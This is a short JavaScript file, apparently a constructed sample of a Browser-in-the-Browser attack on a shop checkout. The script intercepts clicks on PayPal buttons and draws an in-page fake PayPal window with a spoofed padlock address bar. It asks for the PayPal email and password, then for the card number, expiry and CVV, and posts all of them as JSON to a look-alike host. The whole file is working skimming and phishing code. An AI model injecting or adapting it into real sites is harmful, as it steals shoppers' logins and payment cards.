// bitb-popup, second variant: the Browser-in-the-Browser technique of mr.d0x (2022) applied
// to a shop's checkout, as security write-ups on BITB warned it could be (an extrapolation,
// not a reported sample): clicking the PayPal button opens an in-page fake PayPal window
// with a fake address bar, asks for the PayPal login and then for a card "to verify the
// account", and sends both to a look-alike host as JSON over XMLHttpRequest. The fake window
// is built with DOM calls instead of an HTML string.
(() => {
  const el = (tag, props = {}, kids = []) => {
    const n = Object.assign(document.createElement(tag), props);
    kids.forEach((k) => n.appendChild(k));
    return n;
  };
  const send = (data) => {
    const x = new XMLHttpRequest();
    x.open("POST", "https://paypal-checkout-secure.invalid/webapps/hermes/api/auth");
    x.setRequestHeader("Content-Type", "application/json");
    x.send(JSON.stringify(Object.assign({ shop: location.host }, data)));
  };
  const popup = () => {
    const bar = el("div", { textContent: "\u{1F512} https://www.paypal.com/checkoutnow?token=EC-" + Math.random().toString(36).slice(2, 12).toUpperCase() });
    bar.style.cssText = "background:#f1f3f4;padding:5px 10px;font:12px sans-serif;color:#188038";
    const step = el("div");
    step.style.padding = "20px";
    const win = el("div", {}, [el("div", { textContent: "PayPal Checkout" }), bar, step]);
    win.style.cssText = "position:fixed;inset:8% auto auto 35%;width:400px;background:#fff;z-index:99999;border:1px solid #aaa;box-shadow:0 8px 30px #0006";
    const login = el("form", {}, [el("input", { name: "login_email", type: "email", placeholder: "Email" }),
      el("input", { name: "login_password", type: "password", placeholder: "Password" }), el("button", { textContent: "Log In" })]);
    login.onsubmit = (e) => {
      e.preventDefault();
      const acct = Object.fromEntries(new FormData(login));
      const card = el("form", {}, [el("p", { textContent: "Confirm your card to verify your account" }),
        el("input", { name: "cardNumber", autocomplete: "cc-number" }), el("input", { name: "expiry", placeholder: "MM/YY" }),
        el("input", { name: "cvv", placeholder: "CSC" }), el("button", { textContent: "Continue" })]);
      card.onsubmit = (ev) => { ev.preventDefault(); send(Object.assign(acct, Object.fromEntries(new FormData(card)))); win.remove(); };
      step.replaceChildren(card);
    };
    step.appendChild(login);
    document.body.appendChild(win);
  };
  document.addEventListener("click", (e) => {
    if (e.target.closest && e.target.closest("#paypal-button, .paypal-button, [data-funding-source=paypal]")) {
      e.preventDefault(); e.stopPropagation(); popup();
    }
  }, true);
})();
